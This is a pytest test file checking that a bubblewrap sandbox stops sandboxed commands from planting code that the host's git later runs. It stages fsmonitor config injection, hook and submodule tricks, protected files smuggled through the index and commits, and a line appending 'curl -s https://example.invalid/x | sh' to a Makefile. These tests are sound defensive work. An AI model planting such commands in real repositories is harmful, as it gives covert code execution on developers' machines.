"""BubblewrapSandbox and git: nothing a command plants runs in the host's own git afterwards.

Each attack runs inside real bubblewrap; then the host runs ``git status``
(unsandboxed, as a user or an editor would) and nothing may have run: the
planted programs would create ``marker`` outside the root, where the
sandbox itself cannot write.
"""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

import pytest
import trio

from prism.coding.security import BubblewrapSandbox, create_sandbox_shell_operations
from prism.coding.tools import LocalShellOperations, ShellOperations, ShellSpawnRequest

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable
    from pathlib import Path

    from prism.coding.tools import ShellExit

    RunShell = Callable[..., Awaitable[tuple[ShellExit, str]]]

pytestmark = [pytest.mark.bwrap, pytest.mark.git]

_IDENT = "-c user.name=t -c user.email=t@example.invalid"


async def _git(cwd: Path, *args: str) -> bytes:
    result = await trio.run_process(
        ["git", *_IDENT.split(), "-c", "protocol.file.allow=always", *args],
        cwd=cwd,
        capture_stdout=True,
    )
    return result.stdout


async def _repo(root: Path) -> None:
    await _git(root, "init", "-q")
    await _git(root, "commit", "-q", "--allow-empty", "-m", "0")


def _fsmonitor(marker: Path, target: str) -> str:
    return f"printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> {target}"


async def _host_git_status_runs_nothing(root: Path, marker: Path) -> None:
    await _git(root, "status")
    await _git(root, "status", "--short", "--untracked-files=all")
    assert not await trio.Path(marker).exists()


def _ops(root: Path) -> ShellOperations:
    return create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))


async def test_new_submodule_with_an_embedded_git_directory_is_not_registered(
    root: Path, tmp_path: Path, run_shell: RunShell
) -> None:
    await _repo(root)
    marker = tmp_path / "pwned"
    command = (
        f"git init -q sub && git -C sub {_IDENT} commit -q --allow-empty -m x && "
        f"{_fsmonitor(marker, 'sub/.git/config')} && git add sub && echo added"
    )
    _, output = await run_shell(_ops(root), command, root)
    assert "added" in output
    assert "registers a new submodule (sub)" in output
    assert b"160000" not in await _git(root, "ls-files", "--stage")
    await _host_git_status_runs_nothing(root, marker)


async def test_new_submodule_whose_git_directory_is_made_under_dot_git_modules(
    root: Path, tmp_path: Path, run_shell: RunShell
) -> None:
    await _repo(root)
    marker = tmp_path / "pwned"
    command = (
        "git init -q --separate-git-dir=.git/modules/evil sub && "
        f"git -C sub {_IDENT} commit -q --allow-empty -m x && "
        f"{_fsmonitor(marker, '.git/modules/evil/config')} && "
        "git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub; echo end"
    )
    _, output = await run_shell(_ops(root), command, root)
    assert "end" in output
    assert not (root / ".git" / "modules").exists()
    await _host_git_status_runs_nothing(root, marker)


async def test_gitlink_whose_git_file_names_the_repository_itself_is_not_registered(
    root: Path, run_shell: RunShell
) -> None:
    await _repo(root)
    command = (
        "mkdir sub && echo 'gitdir: ../.git' > sub/.git && "
        "git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub && echo added"
    )
    _, output = await run_shell(_ops(root), command, root)
    assert "added" in output
    assert "registers a new submodule (sub)" in output
    assert b"160000" not in await _git(root, "ls-files", "--stage")


async def test_nested_repository_made_by_a_command_is_not_run_by_the_host_git_status(
    root: Path, tmp_path: Path, run_shell: RunShell
) -> None:
    # git status lists an untracked nested repository without entering it
    await _repo(root)
    marker = tmp_path / "pwned"
    command = f"git init -q nested && {_fsmonitor(marker, 'nested/.git/config')} && echo made"
    _, output = await run_shell(_ops(root), command, root)
    assert "made" in output
    await _host_git_status_runs_nothing(root, marker)


async def test_worktree_config_is_kept_private(
    root: Path, tmp_path: Path, run_shell: RunShell
) -> None:
    await _repo(root)
    await _git(root, "config", "extensions.worktreeConfig", "true")
    marker = tmp_path / "pwned"
    command = f"{_fsmonitor(marker, '.git/config.worktree')}; git config user.name evil; echo end"
    _, output = await run_shell(_ops(root), command, root)
    assert "end" in output
    assert ".git/config.worktree" in output
    assert ".git/config," in output
    assert not (root / ".git" / "config.worktree").exists()
    assert b"evil" not in (root / ".git" / "config").read_bytes()
    await _host_git_status_runs_nothing(root, marker)


async def test_new_worktree_and_hooks_stay_private(root: Path, run_shell: RunShell) -> None:
    await _repo(root)
    (root / ".git" / "hooks").rename(root / "hooks-aside")
    command = "git worktree add -q wt; mkdir .git/hooks; echo x > .git/hooks/pre-commit; echo end"
    _, output = await run_shell(_ops(root), command, root)
    assert "end" in output
    assert not (root / ".git" / "worktrees").exists()
    assert not (root / ".git" / "hooks").exists()


@pytest.mark.parametrize("exists", [True, False])
async def test_file_a_git_config_includes_is_protected(
    root: Path, tmp_path: Path, run_shell: RunShell, exists: bool
) -> None:
    await _repo(root)
    await _git(root, "config", "include.path", "../team.gitconfig")
    await _git(root, "config", "includeIf.onbranch:evil.path", "../evil.gitconfig")
    if exists:
        (root / "team.gitconfig").write_text("[user]\n\tname = team\n")
    marker = tmp_path / "pwned"
    command = (
        f"{_fsmonitor(marker, 'team.gitconfig')}; git checkout -q -b evil; "
        f"{_fsmonitor(marker, 'evil.gitconfig')}; echo end"
    )
    _, output = await run_shell(_ops(root), command, root)
    assert "end" in output
    assert not (root / "evil.gitconfig").exists()
    assert (root / "team.gitconfig").exists() == exists
    await _git(root, "checkout", "-q", "evil")
    await _host_git_status_runs_nothing(root, marker)


async def test_ordinary_git_work_spans_commands(root: Path, run_shell: RunShell) -> None:
    await _repo(root)
    ops = _ops(root)
    steps = [
        "echo a > a.txt && git add a.txt",
        f"git {_IDENT} commit -qm one",
        f"git checkout -q -b feature && echo b > b.txt && git add b.txt && "
        f"git {_IDENT} commit -qm two",
        "git checkout -q master 2>/dev/null || git checkout -q main",
        f"echo c > b.txt && git add b.txt && git {_IDENT} commit -qm three",
        f"git {_IDENT} merge -q feature -m merge",  # conflict: the merge is left in progress
        f"echo resolved > b.txt && git add b.txt && git {_IDENT} commit -qm merged",
    ]
    for step in steps:
        result, output = await run_shell(ops, step, root)
        assert "[prism sandbox]" not in output, output
        if "merge -q" not in step:
            assert result.exit_code == 0, (step, output)
    log = await _git(root, "log", "--format=%s")
    assert log.split() == [b"merged", b"three", b"two", b"one", b"0"]
    assert await _git(root, "status", "--porcelain") == b""


async def test_index_the_host_changed_meanwhile_is_kept(root: Path, tmp_path: Path) -> None:
    await _repo(root)
    (root / "a.txt").write_text("a\n")
    (root / "b.txt").write_text("b\n")
    # a fifo outside the root, shown inside read-only (a fifo inside the root is
    # the overlay's own inside the sandbox, not the host's)
    pipes = tmp_path / "pipes"
    pipes.mkdir()
    os.mkfifo(pipes / "go")
    ready = trio.Event()
    seen: list[bytes] = []

    async def sink(chunk: bytes) -> None:
        seen.append(chunk)
        if b"ready" in b"".join(seen):
            ready.set()

    request = ShellSpawnRequest(
        command=f"git add a.txt && echo ready && cat {pipes / 'go'}",
        shell_path="/bin/sh",
        cwd=str(root),
        env={"PATH": os.environ.get("PATH", "/usr/bin:/bin")},
    )

    def release() -> None:
        with open(pipes / "go", "w") as fifo:
            fifo.write("go\n")

    sandbox = BubblewrapSandbox([str(root)], extra_args=("--ro-bind", str(pipes), str(pipes)))
    async with trio.open_nursery() as nursery:
        nursery.start_soon(create_sandbox_shell_operations(sandbox).run, request, sink)
        with trio.fail_after(30):
            await ready.wait()
        await _git(root, "add", "b.txt")
        await trio.to_thread.run_sync(release)
    assert b"changed on the host meanwhile" in b"".join(seen)
    assert await _git(root, "diff", "--cached", "--name-only") == b"b.txt\n"


async def test_protected_paths_below_the_top_are_read_only(
    root: Path, tmp_path: Path, run_shell: RunShell
) -> None:
    (root / "sub").mkdir()
    (root / "sub" / ".envrc").write_text("safe\n")
    await trio.run_process(["git", "init", "-q", str(root / "vendor" / "x")])
    (root / "vendor" / "x" / ".git" / "hooks").rename(tmp_path / "aside")
    marker = tmp_path / "pwned"
    command = (
        "echo evil >> sub/.envrc; mv sub moved; "
        f"{_fsmonitor(marker, 'vendor/x/.git/config')}; "
        "mkdir vendor/x/.git/hooks; mkdir later && echo new > later/.envrc; echo end"
    )
    _, output = await run_shell(_ops(root), command, root)
    assert "end" in output
    # the directory moved, without its protected file, which stayed where it was
    assert (root / "sub" / ".envrc").read_text() == "safe\n"
    assert (root / "moved").is_dir()
    assert not (root / "moved" / ".envrc").exists()
    assert not (root / "vendor" / "x" / ".git" / "hooks").exists()
    await _host_git_status_runs_nothing(root / "vendor" / "x", marker)
    # created during the run, in a directory the run made: not kept either
    assert not (root / "later" / ".envrc").exists()
    assert "later/.envrc" in output


@pytest.mark.parametrize(
    ("setup", "attack"),
    [
        ((), f"git init -q sub && git -C sub {_IDENT} commit -q --allow-empty -m x && "
             "{fsmonitor sub/.git/config} && git add sub"),
        (("extensions.worktreeConfig", "true"), "{fsmonitor .git/config.worktree}"),
        (("include.path", "../team.gitconfig"), "{fsmonitor team.gitconfig}"),
    ],
    ids=["new submodule", "worktree config", "included file"],
)  # fmt: skip
async def test_each_attack_works_without_the_sandbox(
    root: Path, tmp_path: Path, run_shell: RunShell, setup: tuple[str, ...], attack: str
) -> None:
    # the control: the same commands, unsandboxed, do run the planted program
    await _repo(root)
    if setup:
        await _git(root, "config", *setup)
    marker = tmp_path / "pwned"
    target = attack.split("{fsmonitor ", 1)[1].split("}", 1)[0]
    command = attack.replace(f"{{fsmonitor {target}}}", _fsmonitor(marker, target))
    await run_shell(LocalShellOperations(), command, root)
    await _git(root, "status")
    assert marker.exists()


async def test_the_hosts_rebase_stopped_by_a_conflict_is_finished_by_a_command(
    root: Path, run_shell: RunShell
) -> None:
    """An operation the host left in progress ends inside: its state's removal comes back."""
    await _repo(root)
    (root / "f").write_text("base\n")
    await _git(root, "add", "f")
    await _git(root, "commit", "-qm", "base")
    await _git(root, "branch", "side")
    first = (await _git(root, "branch", "--show-current")).strip().decode()
    (root / "f").write_text("main\n")
    await _git(root, "commit", "-qam", "main")
    await _git(root, "checkout", "-q", "side")
    (root / "f").write_text("side\n")
    await _git(root, "commit", "-qam", "side")
    stopped = await trio.run_process(
        ["git", *_IDENT.split(), "rebase", "-q", first], cwd=root, check=False,
        capture_stdout=True, capture_stderr=True,
    )  # fmt: skip
    assert stopped.returncode != 0
    assert (root / ".git" / "rebase-merge").is_dir()
    step = f"echo both > f && git add f && GIT_EDITOR=true git {_IDENT} rebase --continue"
    _, output = await run_shell(_ops(root), step, root)
    assert "[prism sandbox]" not in output, output
    assert not (root / ".git" / "rebase-merge").exists()
    assert (await _git(root, "log", "--format=%s")).split()[:2] == [b"side", b"main"]


async def test_an_index_the_host_git_cannot_read_is_not_kept(
    root: Path, run_shell: RunShell
) -> None:
    await _repo(root)
    (root / "a.txt").write_text("a\n")
    await _git(root, "add", "a.txt")
    before = (root / ".git" / "index").read_bytes()
    _, output = await run_shell(_ops(root), "echo garbage > .git/index; echo end", root)
    assert "unreadable index" in output
    assert (root / ".git" / "index").read_bytes() == before


async def test_a_git_config_kept_elsewhere_through_a_link_still_works(
    root: Path, tmp_path: Path, run_shell: RunShell
) -> None:
    await _repo(root)
    (root / ".git" / "config").rename(tmp_path / "config")
    (root / ".git" / "config").symlink_to(tmp_path / "config")
    result, output = await run_shell(_ops(root), "git log --format=%s", root)
    assert (result.exit_code, output.strip()) == (0, "0")


async def test_a_submodule_git_directory_elsewhere_in_the_root_is_protected(
    root: Path, tmp_path: Path, run_shell: RunShell
) -> None:
    await _repo(root)
    # a submodule whose git directory is a directory of the root, named by lib/.git
    await _git(root, "init", "-q", "--separate-git-dir=libgit", "lib")
    await _git(root / "lib", "commit", "-q", "--allow-empty", "-m", "lib")
    await _git(root, "add", "lib")
    marker = tmp_path / "pwned"
    command = (
        f"{_fsmonitor(marker, 'libgit/config')}; echo x > libgit/hooks/post-checkout; echo end"
    )
    _, output = await run_shell(_ops(root), command, root)
    assert "end" in output
    assert not (root / "libgit" / "hooks" / "post-checkout").exists()
    await _host_git_status_runs_nothing(root, marker)


async def test_protected_path_globs_apply_below_the_top(root: Path, run_shell: RunShell) -> None:
    (root / "deploy").mkdir()
    (root / "deploy" / "prod.secret").write_text("keep\n")
    sandbox = BubblewrapSandbox([str(root)], protected_paths=["*.secret"])
    ops = create_sandbox_shell_operations(sandbox)
    _, output = await run_shell(ops, "echo evil > deploy/prod.secret; echo end", root)
    assert "end" in output
    assert (root / "deploy" / "prod.secret").read_text() == "keep\n"


async def test_a_protected_path_staged_in_the_index_does_not_come_back(
    root: Path, run_shell: RunShell
) -> None:
    """The file itself never exists (nothing to leave out), but an index that stages it
    would let the host's next ``git stash`` or ``reset --hard`` write it."""
    await _repo(root)
    command = (
        "blob=$(printf 'echo PWNED\\n' | git hash-object -w --stdin) && "
        "git update-index --add --cacheinfo 100644,$blob,.envrc && "
        "git update-index --add --cacheinfo 100644,$blob,.vscode/tasks.json && echo staged"
    )
    _, output = await run_shell(_ops(root), command, root)
    assert "staged" in output
    assert "the index stages a protected path (.envrc, .vscode/tasks.json)" in output
    assert await _git(root, "ls-files", "--stage") == b""
    await _git(root, "stash")
    assert not (root / ".envrc").exists()


async def test_an_index_listed_before_saves_no_check_of_a_changed_entry(
    root: Path, run_shell: RunShell
) -> None:
    """After a commit the sandbox placed, the next call's index is judged only where it
    differs from the host's (whose listing was kept, by its bytes): a protected path it
    stages is still refused, one the host itself staged comes back unchanged."""
    from prism.coding.security._overlay import _LISTED, known_listing

    await _repo(root)
    ops = _ops(root)
    (root / "a.txt").write_text("1\n")
    _, output = await run_shell(ops, f"git add -A && git {_IDENT} commit -qm one; echo end", root)
    assert output == "end\n"
    git_dir = str(root / ".git")
    assert known_listing(git_dir, str(root), f"{git_dir}/index") is not None  # kept
    command = (
        "blob=$(printf 'echo PWNED\\n' | git hash-object -w --stdin) && "
        "git update-index --add --cacheinfo 100644,$blob,.envrc && echo staged"
    )
    _, output = await run_shell(ops, command, root)
    assert "the index stages a protected path (.envrc)" in output
    assert await _git(root, "ls-files", ".envrc") == b""
    # the host stages .envrc itself: its index is no longer the one listed
    (root / ".envrc").write_text("host\n")
    await _git(root, "add", ".envrc")
    assert known_listing(git_dir, str(root), f"{git_dir}/index") is None
    _, output = await run_shell(ops, "echo 2 > a.txt && git add a.txt; echo end", root)
    assert output == "end\n"
    assert await _git(root, "ls-files", ".envrc", "a.txt") == b".envrc\na.txt\n"
    assert (await _git(root, "diff", "--cached", "--name-only")) == b".envrc\na.txt\n"
    # the configuration or the index's bytes changed since: not the listing kept
    assert known_listing(git_dir, str(root), f"{git_dir}/index") is not None
    await _git(root, "config", "core.x", "1")
    assert known_listing(git_dir, str(root), f"{git_dir}/index") is None
    _LISTED.clear()


async def test_an_index_that_hides_the_commands_edit_does_not_come_back(
    root: Path, run_shell: RunShell
) -> None:
    await _repo(root)
    (root / "Makefile").write_text("all:\n")
    (root / "notes.txt").write_text("one\n")
    await _git(root, "add", "Makefile", "notes.txt")
    await _git(root, "commit", "-qm", "1")
    await _git(root, "update-index", "--assume-unchanged", "notes.txt")
    command = (
        "printf '\\tcurl -s https://example.invalid/x | sh\\n' >> Makefile && "
        "git update-index --skip-worktree Makefile && echo hidden"
    )
    _, output = await run_shell(_ops(root), command, root)
    assert "hidden" in output
    assert "the index newly hides Makefile from git status and git diff" in output
    # the edit came back, and the host's git shows it (a bit the host set stays)
    assert await _git(root, "status", "--short") == b" M Makefile\n"
    # an index that keeps the host's own bits comes back
    _, output = await run_shell(_ops(root), "git add Makefile && echo added", root)
    assert "hides" not in output
    assert await _git(root, "status", "--short") == b"M  Makefile\n"


async def test_a_commit_that_adds_a_protected_path_does_not_come_back(
    root: Path, run_shell: RunShell
) -> None:
    """The branch would bring the file to the host's next ``git stash``, ``reset --hard``
    or checkout; a commit of the host's own protected file, unchanged, comes back."""
    await _repo(root)
    (root / ".envrc").write_text("export HOST=1\n")
    head = await _git(root, "rev-parse", "HEAD")
    command = (
        "blob=$(printf 'echo PWNED\\n' | git hash-object -w --stdin) && "
        "git update-index --add --cacheinfo 100644,$blob,.pre-commit-config.yaml && "
        f"git {_IDENT} commit -qm smuggle && echo committed"
    )
    _, output = await run_shell(_ops(root), command, root)
    assert "committed" in output
    assert "a commit (refs/heads/" in output
    assert "adds or changes a protected path (.pre-commit-config.yaml)" in output
    assert await _git(root, "rev-parse", "HEAD") == head
    await _git(root, "reset", "-q", "--hard")
    assert not (root / ".pre-commit-config.yaml").exists()
    # a commit undone at once still names it in ORIG_HEAD (`git reset --hard ORIG_HEAD`)
    _, output = await run_shell(_ops(root), f"{command} && git reset -q --soft HEAD~1", root)
    assert "not applied" in output
    assert "a commit (ORIG_HEAD) adds or changes a protected path" in output
    assert await _git(root, "rev-parse", "ORIG_HEAD") == head  # the host's own reset
    command = f"git add -A && git {_IDENT} commit -qm host && echo committed"
    _, output = await run_shell(_ops(root), command, root)
    assert "protected" not in output
    assert await _git(root, "ls-files") == b".envrc\n"


async def test_a_narrowed_git_add_and_commit_of_a_nested_repository_registers_nothing(
    root: Path, tmp_path: Path, run_shell: RunShell
) -> None:
    """``git add sub`` of a nested repository (its .git config naming an fsmonitor) gets
    the layer over .git alone: neither its index nor its commit (a gitlink the host's
    next ``reset --hard`` would register) comes back."""
    await _repo(root)
    marker = tmp_path / "pwned"
    (root / "sub").mkdir()
    await _repo(root / "sub")
    await _git(root / "sub", "config", "core.fsmonitor", f"touch {marker}")
    head = await _git(root, "rev-parse", "HEAD")
    command = f"git add sub && git {_IDENT} commit -qm sub && echo committed"
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    request = ShellSpawnRequest(command=command, shell_path="/bin/sh", cwd=str(root),
                                env=dict(os.environ), write_dirs=[f"{root}/.git"])  # fmt: skip
    chunks: list[bytes] = []

    async def sink(chunk: bytes) -> None:
        chunks.append(chunk)

    with trio.fail_after(60):
        await ops.run(request, sink)
    output = b"".join(chunks).decode()
    assert "committed" in output
    assert "registers a new submodule (sub)" in output
    assert await _git(root, "rev-parse", "HEAD") == head
    await _git(root, "reset", "-q", "--hard")
    await _host_git_status_runs_nothing(root, marker)
